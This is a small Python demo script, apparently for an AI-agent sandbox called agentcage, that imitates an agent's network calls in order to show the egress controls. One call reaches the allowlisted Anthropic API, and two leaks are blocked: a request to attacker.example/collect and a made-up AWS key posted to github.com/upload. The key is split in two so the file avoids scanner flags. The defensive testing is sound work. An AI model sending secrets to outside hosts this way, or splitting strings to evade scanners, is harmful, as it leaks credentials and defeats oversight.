"""A tiny stand-in for an AI agent: one allowed call, one blocked host, one attempted leak.

It repeats that round every minute (`--every SECONDS`) and keeps running, as an agent
would, so a secret set after `cage create` is used from the next round on and
`agentcage cage logs basic` shows each round. `--once` does one round and exits.

It uses only the standard library, so any Python image runs it; the cage gives it
HTTPS_PROXY and the CA bundle through the environment.
"""

import argparse
import json
import os
import time
import urllib.error
import urllib.request


def call(
    label: str, url: str, data: bytes | None = None, headers: dict[str, str] | None = None
) -> None:
    request = urllib.request.Request(url, data=data, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=15) as response:
            body = response.read(300).decode(errors="replace")
            print(f"[{label}] {response.status} {body!r}", flush=True)
    except urllib.error.HTTPError as exc:
        print(f"[{label}] {exc.code} {exc.read(300).decode(errors='replace')!r}", flush=True)
    except OSError as exc:
        print(f"[{label}] failed: {exc}", flush=True)


def one_round() -> None:
    key = os.environ.get("ANTHROPIC_API_KEY", "")
    print(f"agent sees ANTHROPIC_API_KEY={key!r}", flush=True)
    call(
        "allowed: Anthropic API with placeholder",
        "https://api.anthropic.com/v1/messages",
        data=json.dumps({"model": "claude", "messages": []}).encode(),
        headers={"x-api-key": key, "content-type": "application/json"},
    )
    call("blocked: host not on the allowlist", "https://attacker.example/collect")
    # A made-up AWS access key ID (AWS's own documentation key is deliberately let through,
    # so the demo uses one that looks real). Built in two parts so this file is not itself
    # flagged.
    fake_aws_key = "AKIA" + "Z7VQ3XK2M4N5P6RT"
    call(
        "blocked: a credential sent to the wrong host",
        "https://github.com/upload",
        data=f"aws_access_key_id={fake_aws_key}".encode(),
    )


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--once", action="store_true", help="one round, then exit")
    parser.add_argument("--every", type=float, default=60.0, metavar="SECONDS")
    args = parser.parse_args()
    while True:
        one_round()
        if args.once:
            return
        time.sleep(args.every)


if __name__ == "__main__":
    main()
